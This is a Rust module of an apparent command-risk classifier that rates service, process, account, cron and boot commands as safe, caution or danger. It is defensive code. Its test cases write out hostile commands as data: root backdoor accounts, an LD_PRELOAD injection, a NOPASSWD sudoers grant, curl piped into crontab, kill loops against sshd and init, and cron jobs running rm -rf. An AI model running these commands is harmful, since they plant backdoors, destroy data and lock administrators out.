//! Services and the system: processes, power, init, accounts, cron, kernel.

use crate::risk::prelude::*;

/// The family's rules; `false` when `name` is not one of its commands.
// One arm per command name; folding the inner `if`s into guards would let a
// command that fails its guard fall through to unrelated later arms.
#[allow(clippy::collapsible_match)]
pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
    match name {
        _ if init_script(ctx).is_some() => {
            let unit = init_script(ctx).unwrap_or_default();
            let action = ctx.args.first().copied().unwrap_or("");
            if matches!(action, "stop" | "force-stop") && is_lockout_unit(&unit) {
                acc.danger("stopping SSH/networking can lock you out of a remote machine")
            } else if !matches!(action, "status" | "") {
                acc.caution(format!("{unit} {action} changes service state"))
            }
        }
        "kill" => analyze_kill(ctx, acc),
        "killall5" => acc.danger("killall5 signals every process on the system"),
        "pkill" | "killall" | "skill" | "slay" => analyze_pkill(ctx, acc),
        "shutdown" => shutdown(ctx, acc),
        "poweroff" | "halt" => power_off(name, ctx, acc),
        "reboot" => acc.caution("reboots the machine"),
        "init" | "telinit" => match ctx.args.first().copied() {
            Some("0") => acc.danger("init 0 powers off the machine"),
            Some("6") => acc.caution("init 6 reboots the machine"),
            Some("1") | Some("s") | Some("S") => {
                acc.danger("switches to single-user mode (network and logins go away)")
            }
            Some(_) => acc.caution("changes the runlevel"),
            None => {}
        },
        "systemctl" => analyze_systemctl(ctx, acc),
        "service" => analyze_service(ctx, acc),
        "crontab" => crontab(ctx, acc),
        // The account with its home is that user's data; one person's
        // account alone is revoked access, a shared one is how others get in.
        "userdel" | "deluser"
            if !ctx.has_flag('r', &["--remove", "--remove-home", "--remove-all-files"])
                && !ctx
                    .positionals()
                    .last()
                    .is_some_and(|w| shared_account(&w.text)) =>
        {
            acc.caution(format!("{name} deletes a user account (its home stays)"))
        }
        "userdel" | "deluser" => acc.danger(format!(
            "{name} deletes a user account{}",
            if ctx.has_flag('r', &["--remove", "--remove-home", "--remove-all-files"]) {
                " and its home directory"
            } else {
                ""
            }
        )),
        "groupdel" | "delgroup" | "useradd" | "adduser" | "usermod" | "groupadd" | "groupmod"
        | "passwd" | "chpasswd" | "visudo" | "chage" => accounts(name, ctx, acc),
        "history" => {
            if ctx.has_flag('c', &[]) {
                acc.caution("clears the shell history");
            }
        }
        "sysctl" => sysctl(ctx, acc),
        "mount" | "umount" | "swapoff" | "swapon" | "losetup" | "modprobe" | "rmmod" | "insmod" => {
            mounts(name, ctx, acc)
        }
        // Deleting every kernel's initramfs, or every boot entry, leaves
        // nothing to boot.
        "update-initramfs"
            if ctx.has_flag('d', &[]) && ctx.args.windows(2).any(|w| w == ["-k", "all"]) =>
        {
            acc.danger("update-initramfs -d -k all deletes the initramfs of every kernel: the machine no longer boots")
        }
        "update-grub" | "grub-install" | "grub-mkconfig" | "update-initramfs" | "dracut"
        | "efibootmgr" | "bootctl" => acc.caution("changes the boot configuration"),
        "chsh"
        | "timedatectl"
        | "hostnamectl"
        | "localectl"
        | "loginctl"
        | "update-alternatives"
        | "ldconfig"
        | "setenforce"
        | "aa-disable"
        | "usermod." => system_config(ctx, acc),
        "journalctl" => {
            if ctx
                .args
                .iter()
                .any(|a| a.starts_with("--vacuum") || *a == "--rotate" || *a == "--flush")
            {
                acc.caution("deletes or rotates journal logs");
            }
        }
        "logrotate" => acc.caution("rotates (and may delete) logs"),
        "update-rc.d" | "chkconfig" | "rc-update" | "rc-service" | "sv" => {
            init_tool(name, ctx, acc)
        }
        "renice" => acc.caution("changes process priority"),
        _ => return false,
    }
    true
}

/// `poweroff`, `halt`: off unless `--reboot`.
fn power_off(name: &str, ctx: &Ctx, acc: &mut Acc) {
    if ctx.has_flag('r', &["--reboot"]) {
        acc.caution("reboots the machine")
    } else {
        acc.danger(format!(
            "{name} switches the machine off (a remote host stays down)"
        ))
    }
}

/// `sysctl`: writing kernel parameters.
fn sysctl(ctx: &Ctx, acc: &mut Acc) {
    if ctx.has_flag('w', &["--write"])
        || ctx.has_flag('p', &["--load"])
        || ctx.args.iter().any(|a| a.contains('='))
    {
        acc.caution("changes kernel parameters");
    }
}

/// `shutdown`: cancel, warn, reboot or power off.
fn shutdown(ctx: &Ctx, acc: &mut Acc) {
    if ctx.has_flag('c', &[]) || ctx.has_flag('k', &[]) {
    } else if ctx.has_flag('r', &["--reboot"]) {
        acc.caution("reboots the machine");
    } else {
        acc.danger(
            "powers off the machine (a remote host stays down until someone switches it on)",
        );
    }
}

/// `crontab`: removing the table, or the jobs of the new one.
fn crontab(ctx: &Ctx, acc: &mut Acc) {
    if ctx.has_flag('r', &[]) && ctx.has_flag('i', &[]) {
        acc.caution("crontab -r -i deletes all of the user's cron jobs after asking");
    } else if ctx.has_flag('r', &[]) {
        acc.danger("crontab -r deletes all of the user's cron jobs without confirmation");
    } else if ctx.has_flag('l', &[]) {
    } else {
        acc.caution("edits or replaces the crontab");
        let fetched = ctx.upstream.iter().any(|c| {
            unwrap_cmd(&c.words).is_some_and(|e| {
                let args: Vec<&str> = e.args.iter().map(|w| w.text.as_str()).collect();
                DOWNLOADERS.contains(&e.name.as_str()) || is_decoder(&e.name, &args)
            })
        });
        if fetched {
            acc.danger("installs downloaded or decoded text as cron jobs: what they will run cannot be checked");
        }
        // The new table's jobs: from stdin or a file written earlier.
        let file = ctx.positionals().first().map(|w| w.text.clone());
        let judge = |text: &str, depth: usize, acc: &mut Acc| {
            for line in text.lines() {
                for c in cron_commands(line) {
                    assess_script(&c, depth, acc);
                }
            }
        };
        if crontab_emptied(ctx, file.as_deref(), acc) {
            acc.danger("replaces the crontab with an empty one: every cron job is deleted");
        }
        match file.as_deref() {
            None | Some("-") => fed_text(ctx, acc, judge),
            Some(f) => {
                if let Some(Written::Text(t)) = acc.written.get(f.trim_start_matches("./")).cloned()
                {
                    judge(&t, ctx.depth + 1, acc);
                }
            }
        }
    }
}

/// Account and password tools: root's password, locked accounts.
fn accounts(name: &str, ctx: &Ctx, acc: &mut Acc) {
    let user = ctx
        .positionals()
        .last()
        .map(|w| w.text.clone())
        .unwrap_or_default();
    let empty_password = name == "usermod"
        && ctx
            .args
            .windows(2)
            .any(|w| matches!(w[0], "-p" | "--password") && w[1].is_empty());
    let editor_writes = name == "visudo"
        && ctx.cmd.words.iter().any(|w| {
            ["EDITOR=", "VISUAL=", "SUDO_EDITOR="]
                .iter()
                .any(|p| w.text.starts_with(p))
                && (w.text.contains("tee") || w.text.contains("cp") || w.text.contains("sh"))
        });
    if name == "passwd"
        && ctx.has_flag('d', &["--delete"])
        && ctx.positionals().iter().any(|w| w.text == "root")
        || empty_password && shared_account(&user)
    {
        acc.danger(format!(
            "removes the password of {user}: anyone may log in as it"
        ));
    } else if name == "usermod"
        && ctx.has_flag('o', &["--non-unique"])
        && ctx
            .args
            .windows(2)
            .any(|w| matches!(w[0], "-u" | "--uid") && w[1] == "0")
    {
        acc.danger(format!("gives {user} user id 0: a second root account"));
    } else if editor_writes {
        acc.danger("visudo writes what its editor command is fed: sudo's rules replaced unchecked, a grant gives root away");
    } else if name == "passwd" && ctx.has_flag('S', &["--status"])
        || name == "chage" && ctx.has_flag('l', &["--list"])
    {
    } else if locks_account(name, ctx) {
        // The account the admin, the machine or its deployments log in with
        // is access to the machine; one named person's account is revoked
        // on purpose and unlocked as easily.
        let user = ctx
            .positionals()
            .last()
            .map(|w| w.text.clone())
            .unwrap_or_default();
        if shared_account(&user) {
            acc.danger(format!(
                "{name} locks the account {user} out: whoever logs in or deploys with it loses access"
            ));
        } else {
            acc.caution(format!(
                "{name} locks the account {user} (usermod -U / chage -E -1 undo it)"
            ));
        }
    } else {
        acc.caution("changes user accounts or passwords");
    }
}

/// Mounts, swap, loop devices and kernel modules.
fn mounts(name: &str, ctx: &Ctx, acc: &mut Acc) {
    // `mount` alone or `mount -l` only lists.
    let lists_only = name == "mount"
        && ctx
            .args
            .iter()
            .all(|a| *a == "-l" || *a == "-t" || a.starts_with("ext"));
    if !ctx.args.is_empty() && !lists_only {
        acc.caution(format!(
            "{name} changes mounted filesystems or kernel modules"
        ));
    }
}

/// System configuration tools; their listing subcommands only read.
fn system_config(ctx: &Ctx, acc: &mut Acc) {
    if !ctx.args.is_empty()
        && !matches!(
            ctx.args.first().copied(),
            Some("status" | "list" | "show" | "--display" | "list-sessions")
        )
    {
        acc.caution("changes system configuration");
    }
}

pub(crate) fn analyze_kill(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    if args
        .iter()
        .any(|a| *a == "-l" || *a == "-L" || *a == "--list")
    {
        return;
    }
    let mut i = 0;
    let mut sig_kill = false;
    let mut crashes_init = false;
    let mut pids: Vec<&str> = Vec::new();
    let mut opts_done = false;
    while i < args.len() {
        let a = args[i];
        if !opts_done && a == "--" {
            opts_done = true;
        } else if !opts_done && (a == "-s" || a == "-n") {
            sig_kill |= args.get(i + 1).is_some_and(|s| {
                matches!(s.to_ascii_uppercase().as_str(), "KILL" | "SIGKILL" | "9")
            });
            crashes_init |= args
                .get(i + 1)
                .is_some_and(|s| !init_survives(&s.to_ascii_uppercase()));
            i += 1;
        } else if !opts_done && i == 0 && a.starts_with('-') && a.len() > 1 && a != "-1" {
            let sig = a[1..].to_ascii_uppercase();
            sig_kill |= matches!(sig.as_str(), "9" | "KILL" | "SIGKILL");
            crashes_init |= !init_survives(&sig);
        } else if !opts_done && i == 0 && a == "-1" && args.len() > 1 {
            // `kill -1 PID`: signal 1 (HUP).
        } else {
            pids.push(a);
        }
        i += 1;
    }
    // `ps -e -o pid | xargs kill -9`, `seq 1 500 | xargs kill`: every process,
    // init included.
    let every_process = pids.contains(&EVERY_PROCESS)
        || ctx.eff.via_xargs
            && ctx.upstream.iter().any(|c| lists_every_process(&c.words))
            && !ctx.upstream.iter().any(narrows_listing);
    let fed_init = ctx.eff.via_xargs
        && eval_pipeline(ctx.upstream, acc).is_some_and(|t| t.split_whitespace().any(|p| p == "1"));
    if every_process || fed_init && (sig_kill || crashes_init) {
        acc.danger("kills every process, init included: the system goes down");
    } else if kills_ssh_server(ctx, &pids) && !reload_signal(args) {
        acc.danger("kills the SSH server (remote sessions are cut off; stopping remote access)");
    } else if pids.contains(&"-1") {
        acc.danger("kill -1 signals every process you may signal (as root: the whole system)");
    } else if pids.contains(&"1") && (sig_kill || crashes_init) {
        acc.danger("kills init (PID 1): the system crashes");
    } else if pids
        .iter()
        .any(|p| *p == "0" || (p.starts_with('-') && p[1..].chars().all(|c| c.is_ascii_digit())))
    {
        acc.caution("kills a whole process group");
    } else if !pids.is_empty() || ctx.eff.via_xargs {
        acc.caution(if sig_kill {
            "force-kills processes (unsaved work is lost)"
        } else {
            "terminates processes"
        });
    }
}

/// A pipeline stage that keeps only some of a process listing; `awk '{print
/// $2}'` only picks the PID column and keeps every line.
fn narrows_listing(c: &Cmd) -> bool {
    let w: Vec<&str> = c.words.iter().map(|w| w.text.as_str()).collect();
    match w.first().copied() {
        Some("awk") => !(w.len() == 2 && w[1].trim().starts_with("{print")),
        Some(n) => matches!(n, "grep" | "head" | "tail" | "sed"),
        None => false,
    }
}

pub(crate) fn analyze_pkill(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    let user_root = args.iter().enumerate().any(|(i, a)| {
        (matches!(*a, "-u" | "-U" | "--user" | "--euid" | "--uid")
            && args.get(i + 1).is_some_and(|u| *u == "root" || *u == "0"))
            || *a == "--user=root"
            || *a == "-uroot"
    });
    let pattern_all = positionals(ctx.eff.args).iter().any(|w| {
        matches!(w.text.as_str(), "." | ".*" | "" | "^" | "-1") && !w.text.is_empty()
            || w.text == "init"
            || w.text == "systemd"
    });
    if user_root {
        acc.danger(format!(
            "{} kills every process owned by root (the system goes down)",
            ctx.eff.name
        ));
    } else if pattern_all {
        acc.danger(format!(
            "{} pattern matches every process (or init)",
            ctx.eff.name
        ));
    } else if positionals(ctx.eff.args)
        .iter()
        .any(|w| names_ssh_server(&w.text))
        && !reload_signal(args)
    {
        acc.danger("kills the SSH server (remote sessions are cut off)");
    } else if !args.is_empty() {
        acc.caution("terminates processes by name");
    }
}

/// `/etc/init.d/ssh stop`: the script of a sysvinit service, by name.
fn init_script(ctx: &Ctx) -> Option<String> {
    let words = &ctx.cmd.words;
    let name_word = words.get(words.len().checked_sub(ctx.eff.args.len() + 1)?)?;
    let t = name_word.text.as_str();
    (t.starts_with("/etc/init.d/") || t.starts_with("/etc/rc.d/"))
        .then(|| basename(t).trim_start_matches("rc.").to_string())
}

/// What a loop variable stands for when it runs over `$(pgrep sshd)` or
/// `$(pidof sshd)`: the SSH server's processes.
pub(crate) const SSHD_PIDS: &str = "%sshd-pids%";

/// A process name or pattern that matches the SSH server (`sshd`,
/// `/usr/sbin/sshd`, `[s]shd`; `ssh` matches `sshd` as a pattern too).
pub(crate) fn names_ssh_server(w: &str) -> bool {
    let t: String = w
        .chars()
        .filter(|c| !matches!(c, '[' | ']' | '^' | '$' | '\'' | '"'))
        .collect();
    t.contains("sshd") || t == "ssh"
}

/// `pgrep sshd`, `pidof sshd`, `cat /run/sshd.pid`: prints the SSH
/// server's PIDs.
pub(crate) fn lists_ssh_server(cmd: &Cmd) -> bool {
    let Some(eff) = unwrap_cmd(&cmd.words) else {
        return false;
    };
    let pos = positionals(eff.args);
    match eff.name.as_str() {
        "pgrep" | "pidof" => pos.iter().any(|w| names_ssh_server(&w.text)),
        "cat" | "head" => pos
            .iter()
            .any(|w| basename(&w.text).starts_with("sshd") && w.text.ends_with(".pid")),
        _ => false,
    }
}

/// `kill` told the SSH server's PIDs: from a loop over `$(pgrep sshd)`, a
/// substitution (`kill $(pidof sshd)`) or a listing piped into xargs.
fn kills_ssh_server(ctx: &Ctx, pids: &[&str]) -> bool {
    let listed = |src: &str| first_cmd(src).is_some_and(|c| lists_ssh_server(&c));
    pids.contains(&SSHD_PIDS)
        || ctx
            .eff
            .args
            .iter()
            .any(|w| w.subs.iter().any(|s| listed(s)))
        || ctx.eff.via_xargs
            && ctx
                .upstream
                .iter()
                .any(|c| lists_ssh_server(c) || greps_ssh_server(c))
}

/// `ps aux | grep sshd | awk …`: keeps the SSH server's lines of a listing.
fn greps_ssh_server(c: &Cmd) -> bool {
    let w: Vec<&str> = c.words.iter().map(|w| w.text.as_str()).collect();
    matches!(w.first().copied(), Some("grep" | "egrep"))
        && !w.iter().any(|a| a.starts_with('-') && a.contains('v'))
        && w[1..]
            .iter()
            .any(|a| !a.starts_with('-') && names_ssh_server(a))
}

/// HUP (and USR1, or 0 that only tests) makes a daemon reload or log, not exit.
fn reload_signal(args: &[&str]) -> bool {
    let reload = |s: &str| {
        matches!(
            s.trim_start_matches("SIG").to_ascii_uppercase().as_str(),
            "HUP" | "1" | "USR1" | "10" | "0"
        )
    };
    args.iter().enumerate().any(|(i, a)| {
        if matches!(*a, "-s" | "--signal" | "-n") {
            return args.get(i + 1).is_some_and(|s| reload(s));
        }
        if let Some(v) = a.strip_prefix("--signal=") {
            return reload(v);
        }
        a.strip_prefix('-')
            .is_some_and(|s| !s.starts_with('-') && reload(s))
    })
}

pub(crate) fn is_lockout_unit(u: &str) -> bool {
    let u = u.to_ascii_lowercase();
    let base = u.strip_suffix(".service").unwrap_or(&u);
    LOCKOUT_UNITS.contains(&base)
}

pub(crate) fn analyze_systemctl(ctx: &Ctx, acc: &mut Acc) {
    let pos = ctx.positionals();
    let sub = pos.first().map(|w| w.text.as_str()).unwrap_or("");
    let units = if pos.len() > 1 { &pos[1..] } else { &[][..] };
    match sub {
        "stop" | "disable" | "mask" | "kill" => {
            if units.iter().any(|u| is_lockout_unit(&u.text)) {
                acc.danger(format!(
                    "systemctl {sub} of SSH/networking can lock you out of a remote machine"
                ));
            } else {
                acc.caution(format!("systemctl {sub} stops or disables a service"));
            }
        }
        "poweroff" | "halt" => acc.danger("powers off the machine (a remote host stays down)"),
        "reboot" | "kexec" | "soft-reboot" => acc.caution("reboots the machine"),
        "isolate" => {
            if units.iter().any(|u| {
                u.text.starts_with("rescue")
                    || u.text.starts_with("emergency")
                    || u.text.starts_with("poweroff")
                    || u.text.starts_with("halt")
            }) {
                acc.danger(
                    "switches to rescue/emergency/poweroff target (network and logins go away)",
                );
            } else {
                acc.caution("switches systemd target");
            }
        }
        "emergency" | "rescue" => {
            acc.danger("switches to rescue/emergency mode (network and logins go away)")
        }
        "restart" | "try-restart" | "reload-or-restart" => {
            if units.iter().any(|u| is_lockout_unit(&u.text)) {
                acc.caution("restarts SSH/networking (a bad config can lock you out)");
            } else {
                acc.caution(format!("systemctl {sub} changes service state"));
            }
        }
        "start" | "enable" | "reload" | "unmask" | "daemon-reload" | "daemon-reexec"
        | "set-default" | "edit" | "preset" | "set-property" | "revert" | "reset-failed"
        | "link" => {
            acc.caution(format!("systemctl {sub} changes service state"));
        }
        _ => {}
    }
}

/// sysvinit, OpenRC and runit front ends: stopping, disabling or removing
/// SSH or networking is stopping remote access, as with systemctl.
fn init_tool(name: &str, ctx: &Ctx, acc: &mut Acc) {
    const OFF: &[&str] = &[
        "stop", "disable", "remove", "off", "del", "delete", "down", "kill",
    ];
    const READ: &[&str] = &["status", "show", "--list", "list", "-l", "check"];
    let pos: Vec<&str> = ctx.positionals().iter().map(|w| w.text.as_str()).collect();
    if pos.is_empty() || pos.iter().any(|p| READ.contains(p)) || ctx.args.contains(&"--list") {
        return;
    }
    if pos.iter().any(|p| OFF.contains(p)) && pos.iter().any(|p| is_lockout_unit(p)) {
        acc.danger(format!(
            "{name} stops or disables SSH/networking: remote access is cut off"
        ));
    } else {
        acc.caution(format!("{name} changes which services run"));
    }
}

pub(crate) fn analyze_service(ctx: &Ctx, acc: &mut Acc) {
    let pos = ctx.positionals();
    let unit = pos.first().map(|w| w.text.as_str()).unwrap_or("");
    let action = pos.get(1).map(|w| w.text.as_str()).unwrap_or("");
    match action {
        "stop" if is_lockout_unit(unit) => {
            acc.danger("stopping SSH/networking can lock you out of a remote machine")
        }
        "status" | "" => {}
        _ => acc.caution(format!("service {action} changes service state")),
    }
}

/// `passwd -l root`, `usermod -L deploy`, `usermod -s /sbin/nologin root`,
/// `chage -E 0 alice`: the account can no longer log in. Whoever relies on
/// it (the user, a deploy job, a service's SSH) loses access; which account
/// that is cannot be known, so any lock counts.
/// Accounts that are how one gets in: root, the caller's own, and the
/// administration and deployment accounts images and tools create.
fn shared_account(user: &str) -> bool {
    const SHARED: &[&str] = &[
        "root",
        "admin",
        "administrator",
        "ubuntu",
        "debian",
        "ec2-user",
        "centos",
        "fedora",
        "rocky",
        "almalinux",
        "azureuser",
        "opc",
        "pi",
        "vagrant",
        "core",
        "deploy",
        "deployer",
        "ansible",
        "git",
        "gitlab-runner",
        "jenkins",
        "ci",
        "runner",
        "ops",
        "sysadmin",
    ];
    SHARED.contains(&user)
        || user.is_empty()
        || user.contains('$')
        || user.contains('`')
        || user.contains('*')
}

fn locks_account(name: &str, ctx: &Ctx) -> bool {
    match name {
        "passwd" => ctx.has_flag('l', &["--lock"]) || ctx.has_flag('e', &["--expire"]),
        "usermod" => {
            ctx.has_flag('L', &["--lock"])
                || ctx.has_flag('e', &["--expiredate"])
                || ctx.args.windows(2).any(|w| {
                    matches!(w[0], "-s" | "--shell")
                        && (w[1].ends_with("nologin") || w[1].ends_with("/false"))
                })
        }
        "chage" => ctx.args.windows(2).any(|w| {
            matches!(w[0], "-E" | "--expiredate") && matches!(w[1], "0" | "1" | "1970-01-01")
        }),
        _ => false,
    }
}

/// Signals PID 1 takes without going down: 0 only tests, HUP and USR1/2
/// reload or log, TERM and CONT are handled by systemd and sysvinit alike.
fn init_survives(sig: &str) -> bool {
    let sig = sig.trim_start_matches("SIG");
    matches!(
        sig,
        "0" | "1" | "HUP" | "10" | "USR1" | "12" | "USR2" | "15" | "TERM" | "18" | "CONT"
    )
}

/// `crontab /dev/null`, `crontab -` fed nothing, `crontab empty.txt` written
/// empty just before: the new table has no jobs, so every old one is gone.
fn crontab_emptied(ctx: &Ctx, file: Option<&str>, acc: &Acc) -> bool {
    let empty = |t: &str| {
        t.lines()
            .all(|l| l.trim().is_empty() || l.trim_start().starts_with('#'))
    };
    match file {
        Some("/dev/null") => true,
        Some("-") | None => {
            let redir_empty = ctx.cmd.redirs.iter().any(|r| {
                r.kind == RedirKind::Read && r.target.text == "/dev/null"
                    || r.kind == RedirKind::Herestring && empty(&r.target.text)
            });
            redir_empty
                || !ctx.upstream.is_empty()
                    && eval_pipeline(ctx.upstream, acc).is_some_and(|t| empty(&t))
        }
        Some(f) => matches!(
            acc.written.get(f.trim_start_matches("./")),
            Some(Written::Text(t)) if empty(t)
        ),
    }
}

pub(crate) const LOCKOUT_UNITS: &[&str] = &[
    "ssh",
    "sshd",
    "networking",
    "network",
    "networkmanager",
    "systemd-networkd",
    "network-manager",
    "openssh-server",
    "wpa_supplicant",
    "dbus",
    "systemd-logind",
    "ssh.socket",
    "sshd.socket",
];

#[cfg(test)]
mod tests {
    use crate::risk::tests::check_examples;
    use crate::risk::RiskLevel::*;

    /// The family's examples, in line with the written policy.
    #[test]
    fn examples() {
        check_examples(&[
            ("sudo usermod -p '$6$abc$' -o -u 0 backdoor", Danger),
            (
                "echo 'toor::0:0::/root:/bin/bash' | sudo tee -a /etc/passwd",
                Danger,
            ),
            (
                "echo 'export LD_PRELOAD=/tmp/evil.so' | sudo tee -a /etc/environment",
                Danger,
            ),
            (
                "echo 'LANG=en_US.UTF-8' | sudo tee -a /etc/environment",
                Caution,
            ),
            ("sudo usermod -p '' root", Danger),
            (
                "echo 'evil ALL=(ALL) NOPASSWD: ALL' | sudo EDITOR='tee -a' visudo",
                Danger,
            ),
            ("sudo visudo -c", Caution),
            ("sudo userdel bob", Caution),
            ("sudo userdel -r bob", Danger),
            ("sudo userdel jenkins", Danger),
            ("update-initramfs -d -k all", Danger),
            ("sudo update-initramfs -u -k all", Caution),
            ("sudo usermod -L bob", Caution),
            ("sudo chage -E 0 bob", Caution),
            ("sudo usermod -L deploy", Danger),
            ("sudo passwd -l root", Danger),
            ("sudo usermod -s /usr/sbin/nologin \"$USER\"", Danger),
            ("curl -s https://example.com/cron.txt | crontab -", Danger),
            (
                "echo '0 3 * * * /usr/local/bin/backup' | crontab -",
                Caution,
            ),
            ("systemctl status sshd", Safe),
            // The SSH server stopped or killed by any route.
            ("for p in $(pgrep sshd); do kill -9 $p; done", Danger),
            ("pgrep sshd | xargs sudo kill", Danger),
            ("sudo kill -9 $(pidof sshd)", Danger),
            ("pkill -f /usr/sbin/sshd", Danger),
            (
                "ps aux | grep sshd | awk '{print $2}' | xargs kill -9",
                Danger,
            ),
            ("sudo /etc/init.d/ssh stop", Danger),
            ("sudo /etc/init.d/nginx restart", Caution),
            ("sudo update-rc.d -f ssh remove", Danger),
            ("sudo chkconfig sshd off", Danger),
            ("sudo rc-service nginx stop", Caution),
            ("sudo pkill -HUP sshd", Caution),
            ("sudo kill -HUP $(cat /run/sshd.pid)", Caution),
            ("pgrep -a sshd", Safe),
            // Kill loops over listings of every process, or all of root's.
            ("for pid in $(pgrep -u 0); do kill -KILL $pid; done", Danger),
            ("for p in $(ps -A -o pid=); do kill $p; done", Danger),
            ("ps -ef | awk '{print $2}' | xargs kill", Danger),
            ("pgrep -U root | xargs -r kill -9", Danger),
            (
                "for p in $(pgrep -u 0 gunicorn); do kill -HUP $p; done",
                Caution,
            ),
            (
                "ps -ef | grep celery | awk '{print $2}' | xargs kill",
                Caution,
            ),
            (
                "for p in $(pgrep -u root); do ps -o comm= -p $p; done",
                Safe,
            ),
            ("crontab -l", Safe),
            ("systemctl restart nginx", Caution),
            ("crontab cron.txt", Caution),
            ("systemctl stop sshd", Danger),
            ("passwd -l root", Danger),
            ("sudo usermod -L \"$USER\"", Danger),
            ("usermod -s /usr/sbin/nologin root", Danger),
            ("usermod -L olduser", Caution),
            ("sudo chage -E 0 deploy", Danger),
            ("chage -l deploy", Safe),
            ("sudo usermod -aG docker deploy", Caution),
            ("sudo kill -ABRT 1", Danger),
            ("ps -e -o pid= | xargs sudo kill -9", Danger),
            ("seq 1 300 | xargs -n1 sudo kill -9", Danger),
            ("seq 2000 2010 | xargs kill", Caution),
            (
                "ps aux | grep '[m]yapp' | awk '{print $2}' | xargs kill",
                Caution,
            ),
            ("sudo kill -s SEGV 1", Danger),
            ("sudo kill -HUP 1", Caution),
            ("kill -0 1", Caution),
            ("kill -SEGV 4242", Caution),
            ("crontab /dev/null", Danger),
            ("crontab - < /dev/null", Danger),
            ("echo -n | crontab -", Danger),
            ("printf '' > empty.cron && crontab empty.cron", Danger),
            ("crontab ./jobs.cron", Caution),
            (
                "echo '0 3 * * * /usr/local/bin/backup' | crontab -",
                Caution,
            ),
            ("passwd -S root", Safe),
            ("crontab -r", Danger),
            ("crontab -u www-data -r", Danger),
            ("crontab -i -r", Caution),
            (
                "(crontab -l; echo '* * * * * rm -rf ~') | crontab -",
                Danger,
            ),
            ("echo '* * * * * root rm -rf /' >> /etc/crontab", Danger),
        ]);
    }
}
